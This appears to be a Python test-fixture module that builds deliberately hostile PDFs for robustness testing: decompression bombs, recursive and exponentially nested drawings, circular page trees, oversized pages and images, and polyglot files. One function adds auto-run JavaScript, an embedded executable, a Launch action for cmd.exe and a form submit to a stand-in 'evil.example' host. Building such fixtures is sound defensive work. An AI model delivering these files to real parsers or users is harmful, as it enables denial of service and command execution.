"""Hostile PDF files, made at home: small, harmless while nobody opens them. Each has a name that says what it does."""

import zipfile
import zlib
from io import BytesIO

MEGABYTE = 1 << 20
ONE_PAGE = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def pdf(*objects: bytes) -> bytes:
    """A PDF of these objects, numbered from 1; the first is its catalogue."""
    body, offsets = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    tail = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, len(body))
    return body + head + table + tail


def stream(packed: bytes, dictionary: bytes = b"", filters: bytes = b"/FlateDecode") -> bytes:
    return b"<<%s/Filter %s/Length %d>>stream\n%s\nendstream" % (dictionary, filters, len(packed), packed)


def page(resources: bytes = b"", more: bytes = b"") -> bytes:
    size = b"/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<<%s>>%s" % (resources, more)
    return b"<</Type/Page/Parent 2 0 R%s>>" % size


def packed(piece: bytes, times: int) -> bytes:
    """Many pieces, packed without ever being there at once."""
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(piece) for _time in range(times)) + packer.flush()


def simple_pdf(content: bytes = b"BT ET") -> bytes:
    return pdf(*ONE_PAGE, page(), stream(zlib.compress(content)))


def content_of_a_gigabyte() -> bytes:
    return pdf(*ONE_PAGE, page(), stream(packed(b" " * MEGABYTE, 1024)))


def bomb_in_a_bomb() -> bytes:
    inner = packed(b" " * MEGABYTE, 1024)
    return pdf(*ONE_PAGE, page(), stream(zlib.compress(inner, 9), filters=b"[/FlateDecode/FlateDecode]"))


def eight_million_rectangles() -> bytes:
    return pdf(*ONE_PAGE, page(), stream(packed(b"0 0 1 1 re f\n" * 10_000, 800)))


def grid_of_a_thousand_lines() -> bytes:
    lines = (
        b"%.1f 0 m %.1f 842 l S 0 %.1f m 595 %.1f l S\n" % (i * 0.6, i * 0.6, i * 0.8, i * 0.8) for i in range(1000)
    )
    return simple_pdf(b"".join(lines))


def drawing_that_draws_itself() -> bytes:
    itself = b"/Resources<</XObject<</X 5 0 R>>>>"
    form = stream(zlib.compress(b"/X Do"), b"/Type/XObject/Subtype/Form/BBox[0 0 1 1]" + itself)
    return pdf(*ONE_PAGE, page(b"/XObject<</X 5 0 R>>"), stream(zlib.compress(b"/X Do")), form)


def ten_billion_drawings() -> bytes:
    """Ten drawings in each of ten, ten levels deep."""
    tens = zlib.compress(b"/X Do " * 10)
    head = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"
    levels = [stream(tens, head + b"/Resources<</XObject<</X %d 0 R>>>>" % (6 + level)) for level in range(10)]
    last = stream(zlib.compress(b"0 0 1 1 re f"), head)
    return pdf(*ONE_PAGE, page(b"/XObject<</X 5 0 R>>"), stream(tens), *levels, last)


def pages_in_a_circle() -> bytes:
    return pdf(ONE_PAGE[0], b"<</Type/Pages/Kids[2 0 R]/Count 1>>")


def two_hundred_thousand_pages() -> bytes:
    kids = b"<</Type/Pages/Kids[%s]/Count 200000>>" % (b"3 0 R " * 200_000)
    return pdf(ONE_PAGE[0], kids, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>")


def page_as_large_as_a_country() -> bytes:
    return pdf(*ONE_PAGE, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 2000000000 2000000000]>>")


def picture_of_three_billion_pixels() -> bytes:
    head = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 1/ColorSpace/DeviceGray"
    picture = stream(packed(b"\0" * 7500, 60_000), head)
    draw = stream(zlib.compress(b"500 0 0 500 0 0 cm /I Do"))
    return pdf(*ONE_PAGE, page(b"/XObject<</I 5 0 R>>"), draw, picture)


def everything_that_acts() -> bytes:
    script = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
    catalogue = (
        b"<</Type/Catalog/Pages 2 0 R/OpenAction %s/Names<</JavaScript<</Names[(a)%s]>>"
        b"/EmbeddedFiles<</Names[(x.exe)<</Type/Filespec/F(x.exe)/EF<</F 5 0 R>>>>]>>>>"
        b"/AcroForm<</Fields[]/XFA 5 0 R>>>>"
    ) % (script, script)
    links = b"[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/SubmitForm/F(http://evil.example/)>>>>]"
    acting = page(more=b"/AA<</O<</S/Launch/F(cmd.exe)>>>>/Annots" + links)
    attached = stream(zlib.compress(b"MZ not really"), b"/Type/EmbeddedFile")
    return pdf(catalogue, ONE_PAGE[1], acting, stream(zlib.compress(b"0 0 9 9 re f")), attached)


def page_behind_a_web_page() -> bytes:
    return b"<html><script>alert(1)</script>\n" + simple_pdf()


def archive_behind_a_page() -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.txt", "x")
    return simple_pdf() + buffer.getvalue()


def half_a_file() -> bytes:
    whole = simple_pdf(b"0 0 9 9 re f " * 500)
    return whole[: len(whole) // 2]


def values_without_end() -> bytes:
    return pdf(*ONE_PAGE, page(more=b"/X " + b"[" * 400 + b"]" * 400), stream(zlib.compress(b"")))
